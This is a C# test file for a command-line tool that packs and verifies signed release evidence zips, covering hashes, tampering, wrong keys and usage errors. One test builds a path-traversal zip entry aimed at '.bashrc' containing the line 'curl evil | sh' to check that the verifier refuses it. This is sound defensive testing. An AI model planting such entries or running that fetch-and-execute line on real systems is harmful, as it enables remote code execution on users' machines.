using System.IO.Compression;
using System.Security.Cryptography;
using Toolkit.Testing;

namespace Toolkit.Cli.Tests;

public sealed class EvidenceCommandTests
{
    private const string Pack = "artifacts/release/v3.0.0/evidence.zip";

    /// <summary>A repository after a gate run, with a release key pair next to it.</summary>
    private static CliHarness Released(out string publicKey)
    {
        var cli = new CliHarness();
        SampleGateOutput.Write(cli.Repo.Combine("artifacts", "gates"));
        var (privatePem, publicPem) = Keys.P256();
        cli.Repo.Write("keys/release.pem", privatePem);
        publicKey = cli.Repo.Write("keys/release.pub", publicPem);
        return cli;
    }

    [Fact]
    public async Task A_pack_is_written_where_the_release_contract_says_with_its_sha256_beside_it_and_verifies()
    {
        using var cli = Released(out var publicKey);

        var packed = await cli.RunAsync("evidence", "pack", "--version", "v3.0.0", "--key", "keys/release.pem");
        var output = cli.Out;
        var verified = await cli.RunRawAsync("evidence", "verify", cli.Repo.Combine(Pack), "--key", publicKey);

        Assert.Equal(0, packed);
        Assert.Contains($"Evidence pack written: {Pack}", output, StringComparison.Ordinal);
        Assert.Contains($"commits {SampleGateOutput.Base}..{SampleGateOutput.Commit}", output, StringComparison.Ordinal);
        var zip = File.ReadAllBytes(cli.Repo.Combine(Pack));
        Assert.Equal($"{Convert.ToHexStringLower(SHA256.HashData(zip))}  evidence.zip\n", File.ReadAllText(cli.Repo.Combine(Pack + ".sha256")));
        Assert.Equal(0, verified);
        Assert.Contains("evidence.zip verifies: release v3.0.0", cli.Out, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFiles(cli.Repo.Combine("artifacts", "release", "v3.0.0"), "*.tmp"));
    }

    [Fact]
    public async Task Options_choose_the_source_the_output_the_range_and_the_signer()
    {
        using var cli = Released(out var publicKey);

        var exit = await cli.RunAsync("evidence", "pack", "--version", "v3.0.0", "--key", "keys/release.pem", "--from", "artifacts/gates", "--out", "out/e.zip", "--commit-range", "abcdef1..1234567", "--signed-by", "release-bot@acme");

        Assert.Equal(0, exit);
        Assert.Contains("commits abcdef1..1234567", cli.Out, StringComparison.Ordinal);
        Assert.Contains("signed by release-bot@acme", cli.Out, StringComparison.Ordinal);
        Assert.Equal(0, await cli.RunRawAsync("evidence", "verify", cli.Repo.Combine("out", "e.zip"), "--key", publicKey));
    }

    [Fact]
    public async Task A_pack_written_inside_the_source_directory_does_not_pack_itself()
    {
        using var cli = Released(out _);

        await cli.RunAsync("evidence", "pack", "--version", "v3.0.0", "--key", "keys/release.pem", "--out", "artifacts/gates/evidence.zip");
        var exit = await cli.RunAsync("evidence", "pack", "--version", "v3.0.0", "--key", "keys/release.pem", "--out", "artifacts/gates/evidence.zip", "--force");

        Assert.Equal(0, exit);
        using var archive = ZipFile.OpenRead(cli.Repo.Combine("artifacts", "gates", "evidence.zip"));
        Assert.DoesNotContain(archive.Entries, e => e.FullName.Contains("evidence.zip", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_changed_byte_fails_verification_naming_the_file()
    {
        using var cli = Released(out var publicKey);
        await cli.RunAsync("evidence", "pack", "--version", "v3.0.0", "--key", "keys/release.pem");
        var path = cli.Repo.Combine(Pack);
        var zip = File.ReadAllBytes(path);
        var at = zip.AsSpan().IndexOf("{\"web\":0.31"u8);
        zip[at + 8] = (byte)'9';
        File.WriteAllBytes(path, zip);

        var exit = await cli.RunRawAsync("evidence", "verify", path, "--key", publicKey);

        Assert.Equal(1, exit);
        Assert.Contains("does NOT verify", cli.Out, StringComparison.Ordinal);
        Assert.Contains("perf/headroom.json: does not match", cli.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_wrong_key_fails_and_unusable_input_is_a_usage_error()
    {
        using var cli = Released(out _);
        await cli.RunAsync("evidence", "pack", "--version", "v3.0.0", "--key", "keys/release.pem");
        var other = cli.Repo.Write("keys/other.pub", Keys.P256().PublicPem);
        var text = cli.Repo.Write("notes.txt", "not a zip");

        Assert.Equal(1, await cli.RunRawAsync("evidence", "verify", cli.Repo.Combine(Pack), "--key", other));
        Assert.Contains("manifest.dsse.json: the signature does not verify", cli.Out, StringComparison.Ordinal);
        Assert.Equal(2, await cli.RunRawAsync("evidence", "verify", text, "--key", other));
        Assert.Contains("not a zip archive", cli.Error, StringComparison.Ordinal);
        Assert.Equal(2, await cli.RunRawAsync("evidence", "verify", cli.Repo.Combine(Pack), "--key", cli.Repo.Combine("keys", "missing.pub")));
        Assert.Contains("does not exist", cli.Error, StringComparison.Ordinal);
        Assert.Equal(2, await cli.RunRawAsync("evidence", "verify", cli.Repo.Combine(Pack), "--key", text));
        Assert.DoesNotContain("   at ", cli.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_hostile_zip_is_refused_naming_the_entry()
    {
        using var cli = Released(out var publicKey);
        var path = cli.Repo.Combine("evil.zip");
        using (var archive = ZipFile.Open(path, ZipArchiveMode.Create))
        {
            using var writer = new StreamWriter(archive.CreateEntry("../../home/user/.bashrc", CompressionLevel.NoCompression).Open());
            writer.Write("curl evil | sh");
        }

        var exit = await cli.RunRawAsync("evidence", "verify", path, "--key", publicKey);

        Assert.Equal(1, exit);
        Assert.Contains("../../home/user/.bashrc: escapes the pack", cli.Out, StringComparison.Ordinal);
        Assert.False(File.Exists(cli.Repo.Combine("..", "..", "home", "user", ".bashrc")));
    }

    [Fact]
    public async Task Packing_without_verdicts_or_with_a_bad_key_writes_nothing_and_exits_2()
    {
        using var cli = new CliHarness();
        cli.Repo.Write("keys/release.pem", Keys.P256().PrivatePem);
        cli.Repo.Write("keys/public.pem", Keys.P256().PublicPem);

        var empty = await cli.RunAsync("evidence", "pack", "--version", "v3.0.0", "--key", "keys/release.pem", "--commit-range", "..abcdef1");
        var emptyError = cli.Error;
        SampleGateOutput.Write(cli.Repo.Combine("artifacts", "gates"));
        var publicOnly = await cli.RunAsync("evidence", "pack", "--version", "v3.0.0", "--key", "keys/public.pem");
        var badVersion = await cli.RunAsync("evidence", "pack", "--version", "../x", "--key", "keys/release.pem");

        Assert.Equal(2, empty);
        Assert.Contains("run the gates first", emptyError, StringComparison.Ordinal);
        Assert.Equal(2, publicOnly);
        Assert.Equal(2, badVersion);
        Assert.False(Directory.Exists(cli.Repo.Combine("artifacts", "release")));
    }

    [Theory]
    [InlineData("evidence", "pack")]
    [InlineData("evidence", "verify")]
    public async Task The_evidence_commands_have_help_with_examples(params string[] command)
    {
        using var cli = new CliHarness();

        var exit = await cli.RunRawAsync([.. command, "--help"]);

        Assert.Equal(0, exit);
        Assert.Contains("Examples:", cli.Out, StringComparison.Ordinal);
        Assert.Contains("gate evidence", cli.Out, StringComparison.Ordinal);
    }
}
